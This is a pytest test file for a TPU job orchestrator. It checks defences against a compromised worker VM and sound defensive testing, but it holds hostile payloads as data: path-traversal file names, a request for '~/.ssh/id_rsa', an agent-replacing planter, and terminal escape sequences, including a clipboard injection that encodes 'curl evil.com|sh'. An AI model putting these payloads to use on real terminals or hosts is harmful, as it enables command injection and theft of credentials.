"""A job that took over its VM: it attacks the machine that collects, and the terminal of the person who reads it."""

import json
import re
import sys
from pathlib import Path

import pytest

from orchestrator.api.session.events import Metrics, Progress, Running
from orchestrator.cli.console import output, tables
from orchestrator.errors import UserError
from orchestrator.hosts.transfer.collect import CollectRequest
from orchestrator.hosts.transfer.collector import ArchivePart, Collector
from orchestrator.promise.lease import guest_reports
from orchestrator.text.terminal import LINE_CHARS
from tests import ROOT
from tests.cli_fixture import Said, Tpujob
from tests.e2e.test_results import MEASURED

# In place of the agent's own packer. Its index promises everything, and what it sends is what it likes.
PACKER = """
import hashlib, json, sys
from .frames import PREFIX, reply, write

FILES = []

def add(name, content=b"evil", sent=None):
    FILES.append((name, content, content if sent is None else sent))

def pack():
    request = json.loads(sys.stdin.buffer.readline())
    setting()
    for name, content, _ in FILES:
        reply({"path": name, "size_bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()})
    reply({"end": len(FILES)})
    wanted = json.loads(sys.stdin.buffer.readline())
    for first, after in wanted:
        for _, _, sent in FILES[first:after]:
            write(sent)
"""

PATHS = r"""
def setting():
    add("artifacts/first.txt", b"first")
    for name in ("../escaped", "artifacts/../../escaped", "/tmp/escaped-absolute", "C:/escaped", "artifacts\\escaped",
                 "artifacts/./x", "artifacts//x", "artifacts/two\nlines", "artifacts/\x1b]0;pwned\x07", "",
                 "artifacts/" + "x" * 300, "/".join(["artifacts"] + ["d"] * 140)):
        add(name)
    add("artifacts/First.txt", b"other case")
    add("artifacts/last.txt", b"last")
"""
SHIFTED = r"""
def setting():
    add("artifacts/first.txt", b"first")
    add("artifacts/larger", b"x", sent=b"x" * 1000)
    add("artifacts/next", b"next")
"""
BOMB = r"""
def setting():
    add("artifacts/first.txt", b"first")
    add("artifacts/last.txt", b"last", sent=b"last" + bytes(64 << 20))
"""


JOB = """
tpu: {zone: us-central1-a}
code: code
command: python3 plant.py files/pack.py
"""
# Puts a file into the agent, where the last one of a name counts, and ends the agent: the next one is ours. Only that of
# its own worker: other tests run agents of the same version at the same time.
PLANTER = """
import glob, os, sys, zipfile
(place,) = glob.glob(os.path.expanduser("~/tpujob/bin/agent-*.zip"))
with zipfile.ZipFile(place, "a") as agent:
    agent.write(sys.argv[1], "vm/" + sys.argv[1])
name = os.path.basename(place)[: -len(".zip")].partition("-")[2].encode()
mine = b"TPUJOB_WATCHDOG_DIR=" + os.environb[b"TPUJOB_WATCHDOG_DIR"]
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            is_agent = name in file.read().split(b"\\0") and os.getsid(int(pid)) == int(pid)
        with open(f"/proc/{pid}/environ", "rb") as file:
            is_here = mine in file.read().split(b"\\0")
        if is_agent and is_here:
            os.kill(int(pid), 9)
    except OSError:
        pass
"""


def planted(tpujob: Tpujob, text: str, module: str = "files/pack.py") -> Said:
    """Run a job that puts the text in place of the module of the agent."""
    code = tpujob.directory / "code"
    (code / module).parent.mkdir(parents=True, exist_ok=True)
    (code / module).write_text(text)
    (code / "plant.py").write_text(PLANTER)
    return tpujob("run", tpujob.job(JOB.replace("files/pack.py", module)))


def run(tpujob: Tpujob, setting: str) -> tuple[int, str, dict[str, bytes]]:
    (tpujob.directory / "precious").write_text("untouched")
    said = planted(tpujob, PACKER + setting)
    came = [path for worker in tpujob.directory.glob("runs/*/worker0") for path in worker.rglob("*")]
    assert all(not path.is_symlink() and path.stat().st_mode & 0o7022 == 0 for path in came)
    kept = {path.name: path.read_bytes() for path in came if path.is_file()}
    assert "absent (checked" in said.stdout and "Traceback" not in said.stderr and "bug" not in said.stderr, said.text
    assert "\x1b" not in said.text
    assert {path.name for path in tpujob.directory.iterdir()} == {
        "code",
        "home",
        "job.yaml",
        "precious",
        "runs",
        "state",
    }
    return said.returncode, said.stderr, kept


FILES = {"first.txt": b"first", "First.txt": b"other case", "last.txt": b"last"}


def test_22_paths_that_attack_are_refused_by_name_and_the_others_kept(tpujob: Tpujob) -> None:
    code, err, kept = run(tpujob, PATHS)
    assert code == 65
    places = sorted(re.sub("~[0-9a-f]{8}", "~", name) for name in kept if name not in FILES)
    assert places == ["__0_pwned_~", "artifacts\\escaped", "d~", "escaped", "two_lines~", "x" * 100 + "~"]
    assert {name: kept[name] for name in FILES} == FILES
    assert (tpujob.directory / "precious").read_text() == "untouched"
    assert "artifacts were refused or damaged" in err
    (directory,) = tpujob.directory.glob("runs/*")
    story = json.loads(tpujob("show", directory.name.rpartition("-")[2], "--json").stdout)
    said = json.dumps(story) + err
    assert story["state"] == "failed" and "../escaped: a path with empty, . or .. components" in said
    assert not Path("/tmp/escaped-absolute").exists()


@pytest.mark.exhaustive
def test_23_more_than_announced_costs_the_next_file_one_try(tpujob: Tpujob) -> None:
    said = planted(tpujob, PACKER + SHIFTED)
    assert said.returncode == 0, said.text
    came = {path.name: path.read_bytes() for path in tpujob.directory.glob("runs/*/worker0/artifacts/*")}
    assert came == {"first.txt": b"first", "larger": b"x", "next": b"next"}


def test_22_what_comes_after_the_last_file_is_left_alone(tpujob: Tpujob) -> None:
    code, err, kept = run(tpujob, BOMB)
    assert (code, kept) == (0, {"first.txt": b"first", "last.txt": b"last"}), err


@pytest.mark.parametrize("answer", [
    pytest.param('write(b"x" * (64 << 20))', id="noise-without-end"),
    pytest.param('write(PREFIX + b"[" * 100000 + b"\\n")', id="deep-json", marks=pytest.mark.exhaustive),
])  # fmt: skip
def test_23_an_answer_that_is_none_is_an_error_of_the_worker_and_the_slice_goes(tpujob: Tpujob, answer: str) -> None:
    setting = f"\ndef pack():\n    {answer}\n"
    code, err, kept = run(tpujob, setting)
    assert code in (65, 71), err
    assert kept == {}
    assert len(err) < 20_000


@pytest.mark.parametrize("answer", [
    pytest.param('reply({"error": "\\x1b]52;c;eA==\\x07" + "x" * 10000})', id="error-with-escapes"),
    pytest.param("pass", id="silence", marks=pytest.mark.exhaustive),
    pytest.param('reply({"path": "\\x1b]0;t\\x07", "why": "\\x1b[2J"}); reply({"end": 0}); write(bytes(1024))',
                 id="escapes"),
    pytest.param('reply({"path": "artifacts/x", "size_bytes": 1 << 60, "sha256": ""}); reply({"end": 1})', id="a-lie"),
])  # fmt: skip
def test_23_a_packer_that_fails_may_do_better_the_next_time_and_holds_the_slice_no_longer_than_that(
    tpujob: Tpujob, answer: str
) -> None:
    said = planted(tpujob, f"{PACKER}\ndef pack():\n    {answer}\n")
    assert said.returncode == 65 and "RESULTS NOT COLLECTED" in said.stderr, said.text
    assert "\x1b" not in said.text and len(said.stderr) < 20_000
    assert tpujob("collect", "job").returncode == 65
    assert tpujob("down", "job").returncode == 0 and tpujob.alive() == []


# In place of the agent's own receiver: it asks for what it was not offered, and keeps what it gets.
RECEIVER = """
import os, sys
from .frames import reply

def receive(sha256):
    reply({"manifest": False})
    size = int(sys.stdin.buffer.readline(32))
    sys.stdin.buffer.read(size)
    reply({"missing": %s, "offset": 0})
    with open(os.path.expanduser("~/loot"), "wb") as loot:
        loot.write(sys.stdin.buffer.read())
    reply({"stored": 1})
"""


@pytest.mark.parametrize("asked", [
    pytest.param("[[0, 100]]", id="more than there is"),
    pytest.param('["../../.ssh/id_rsa"]', id="a path"),
    pytest.param("[[-1, 0]]", id="before the first", marks=pytest.mark.exhaustive),
])  # fmt: skip
def test_a_worker_is_sent_nothing_that_it_was_not_offered(tpujob: Tpujob, asked: str) -> None:
    assert tpujob("up", "mine", "--zone", "us-central1-a").returncode == 0
    assert planted(tpujob, RECEIVER % asked, "files/receive.py").returncode == 0
    (tpujob.directory / "code" / "precious").write_text("precious")
    said = tpujob("run", "job.yaml")
    assert said.returncode != 0 and "a worker asks for" in said.stderr and "Traceback" not in said.text
    (loot,) = tpujob.disks()[1].glob("vms/*/worker0/home/loot")
    assert loot.read_bytes() == b""
    assert tpujob("down", "mine").returncode == 0


@pytest.mark.exhaustive
@pytest.mark.parametrize(
    "answer", ['{"address": "10.0.0.9"}', '{"address": [], "port": 8476}', '{"address": "a", "port": "b"}']
)
def test_facts_that_a_worker_makes_up_are_an_error_of_the_worker(tpujob: Tpujob, answer: str) -> None:
    assert tpujob("up", "mine", "--zone", "us-central1-a").returncode == 0
    served = (ROOT / "orchestrator/vm/agent/serve.py").read_text(encoding="utf-8")
    module = f"{served}\n\ndef hello():\n    reply({answer})\n"
    assert planted(tpujob, module, "agent/serve.py").returncode == 0
    said = tpujob("run", "job.yaml")
    assert said.returncode == 71 and "worker0: an answer without an address and a port" in said.stderr, said.text
    assert tpujob("down", "mine").returncode == 0


CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmNvbXxzaA==\x07"
TITLE = "\x1b]0;pwned\x07"

ESCAPES = r"""
tpu: {zone: us-central1-a}
command: |
  printf '\033]52;c;Y3VybCBldmlsLmNvbXxzaA==\007clipboard\n'
  printf '\033]0;pwned\007title\n'
  printf '\033[2J\033[1;1Hhome\033[31m red\033[0m\n'
  printf '\302\233' ; printf '31mC1 controls\n'
  printf 'moc\342\200\256gnp.exe\n'
  printf '\000\001\010nul\n'
  printf '10%%\r50%%\r100%%\n'
  printf 'cloud    Google Cloud, project acme\n'
  printf '\377\376 not UTF-8\n'
  head -c 20000000 /dev/zero | tr '\0' x; echo
  printf '\033]52;c;never ends'
"""


def test_24_what_a_job_prints_is_text_of_bounded_length_with_its_worker_in_front(tpujob: Tpujob) -> None:
    said = tpujob("run", tpujob.job(ESCAPES))
    assert said.returncode == 0, said.stderr
    assert not CONTROLS.search(said.text)
    lines = [line.removeprefix("worker0 | ") for line in said.stdout.splitlines() if line.startswith("worker0 | ")]
    assert lines[:9] == [
        *("clipboard", "title", "home red", "C1 controls", "mocgnp.exe", "nul", "100%"),
        "cloud    Google Cloud, project acme",  # cannot be taken for a line of ours: it says whose it is
        "�� not UTF-8",
    ]
    assert lines[9] == "x" * (LINE_CHARS - 1) + "…"
    assert not CONTROLS.search(tpujob("logs", _run(tpujob)).text)
    for line in tpujob("logs", _run(tpujob), "--json").stdout.splitlines():
        assert not CONTROLS.search(json.loads(line)["line"])


def test_22_a_file_name_with_an_escape_is_replaced_and_printed_without_it(tpujob: Tpujob) -> None:
    job = r"""
tpu: {zone: us-central1-a}
command: |
  echo fine > $TPUJOB_ARTIFACTS/fine.txt
  echo x > "$TPUJOB_ARTIFACTS/$(printf 'a\033]0;pwned\007b')"
  echo x > "$TPUJOB_ARTIFACTS/$(printf 'two\nlines')"
"""
    said = tpujob("run", tpujob.job(job))
    assert said.returncode == 0 and "a\\u001b]0;pwned\\u0007b is " in said.stderr
    kept = sorted({path.name for path in tpujob.directory.glob("runs/*/worker0/artifacts/*")} - MEASURED)
    assert [name.partition("~")[0] for name in kept] == ["a__0_pwned_b", "fine.txt", "two_lines"]
    assert not CONTROLS.search(said.text + tpujob("show").text + tpujob("show", "--json").text)


def _run(tpujob: Tpujob) -> str:
    return str(json.loads(tpujob("list", "--json").stdout)[0]["run"])


@pytest.mark.parametrize("hostile", [CLIPBOARD, TITLE, "\x1b[2J", "\x9b31m", "\u202e", "\r", "\x08"])
def test_messages_are_cleaned_whoever_wrote_them(hostile: str, capfd: pytest.CaptureFixture[str]) -> None:
    output.console.cache_clear()
    voice = output.console()
    voice.notice("note", f"a{hostile}b")
    voice.alert(f"a{hostile}b\nsecond line")
    voice.reporter.fail(UserError(f"a{hostile}b", hint=f"c{hostile}d"))
    output.emit(f"a{hostile}b\tc")
    out, err = capfd.readouterr()
    assert not CONTROLS.search(out + err)
    assert err == "note     ab\nab\nsecond line\nab\nhint: cd\n" and out == "ab\tc\n"
    output.console.cache_clear()


@pytest.mark.parametrize("hostile", [CLIPBOARD, TITLE, "\x1b[2J", "\x9b31m", "\u202e", "\r", "\x08", "[blink]", "[/]"])
def test_cells_and_the_live_line_are_text_whoever_wrote_them(
    hostile: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a terminal: rich draws the table, and brackets in a cell are no markup."""
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("NO_COLOR", "1")
    for stream in (sys.stdout, sys.stderr):
        monkeypatch.setattr(stream, "isatty", lambda: True)
    output.console.cache_clear()
    cells = [f"a{hostile}b", f"{hostile}READY"]
    tables.print_table(("NAME", "STATE"), [cells], states=(1,), wraps=(0,))
    output.console().show(Running("r", "main", "google", 0.0, 60.0, 0.1, 9.6))
    for event in (Metrics(0, 1, {f"lo{hostile}ss": 1.0}), Progress("ship", f"a{hostile}b")):
        output.console().show(event)
        output.console()._live()._draw()  # as the clock does
    output.console().quiet()
    out, err = capfd.readouterr()
    drawn = out + re.sub("\r\x1b\\[K", "", err)
    assert not CONTROLS.search(drawn) and "READY" in out
    if "[" in hostile and "\x1b" not in hostile:
        assert f"a{hostile}b" in out and f"a{hostile}b" in err
    output.console.cache_clear()


def test_json_carries_controls_escaped(capfd: pytest.CaptureFixture[str]) -> None:
    output.console.cache_clear()
    hostile = f"{CLIPBOARD}\x9b31m\u202e"
    output.emit_json({"detail": hostile, "ä": "ü"})
    out = capfd.readouterr().out
    assert not CONTROLS.search(out) and json.loads(out) == {"detail": hostile, "ä": "ü"}


@pytest.mark.parametrize(
    "text", ["[" * 5000, '{"worker": 0, "armed": true, "lease": ' + "9" * 4000 + "}", '{"lease": 1e999}', "\0", "7"]
)
def test_whatever_a_job_publishes_as_the_switch_is_read_as_armed_or_not(text: str) -> None:
    said = [{guest_reports.WATCHDOG_ATTRIBUTE: text}]
    (watchdog,) = guest_reports.read_watchdogs(said, 1)
    assert guest_reports.read_job(said, 1, "a-1") == guest_reports.JobReport("unknown", {})
    assert watchdog.armed is (text.startswith('{"worker": 0, "armed": true'))


@pytest.mark.parametrize("size", ["1e999", "-Infinity", "null", '"many"', "[]"])
def test_23_an_index_that_lies_about_sizes_is_an_error_of_the_worker_and_not_of_ours(size: str) -> None:
    from orchestrator.errors import RemoteError

    row = json.loads(f'{{"path": "a", "size_bytes": {size}, "sha256": ""}}')
    with pytest.raises(RemoteError, match="the index of the artifacts makes no sense"):
        Collector(CollectRequest("", Path("runs"), ("*",)))._index(ArchivePart(0), lambda: row)


@pytest.mark.parametrize("metrics", [
    "[" * 100_000,
    pytest.param('{"test_accuracy": ' + "9" * 1000 + "}", marks=pytest.mark.exhaustive),
    pytest.param('{"test_accuracy": NaN, "images_per_s": 1e999}', marks=pytest.mark.exhaustive),
])  # fmt: skip
def test_metrics_made_to_confuse_cost_neither_the_result_nor_the_release(tpujob: Tpujob, metrics: str) -> None:
    (tpujob.directory / "code").mkdir()
    (tpujob.directory / "code" / "metrics.json").write_text(metrics)
    job = "tpu: {zone: us-central1-a}\ncode: code\ncommand: cp metrics.json $TPUJOB_ARTIFACTS/\n"
    said = tpujob("run", tpujob.job(job))
    assert said.returncode == 0, said.stderr
    assert "result   succeeded" in said.stdout and "absent (checked" in said.stdout
    assert tpujob("show", _run(tpujob), "--json").returncode == 0
